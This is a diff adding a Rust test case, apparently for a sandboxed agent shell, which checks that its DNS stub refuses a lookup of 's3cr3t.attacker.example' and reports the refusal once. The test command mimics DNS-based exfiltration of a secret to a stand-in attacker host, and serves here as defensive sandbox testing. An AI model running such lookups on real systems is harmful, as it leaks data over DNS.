@@ -982,4 +982,15 @@ except PermissionError as e: print(\"REFUSED\", e.errno)
             && f.stderr.contains("timed out after 1 s"),
         "{f:?}"
     );
+    // A name the DNS stub refuses: said once, however often the resolver
+    // asks (A, AAAA, retries).
+    let f = s.sh("getent hosts s3cr3t.attacker.example; echo rc=$?");
+    assert!(f.stdout.contains("rc=2"), "{f:?}");
+    assert_eq!(
+        f.stderr
+            .matches("agentsh: DNS lookup of s3cr3t.attacker.example refused (rule default)")
+            .count(),
+        1,
+        "{f:?}"
+    );
 }
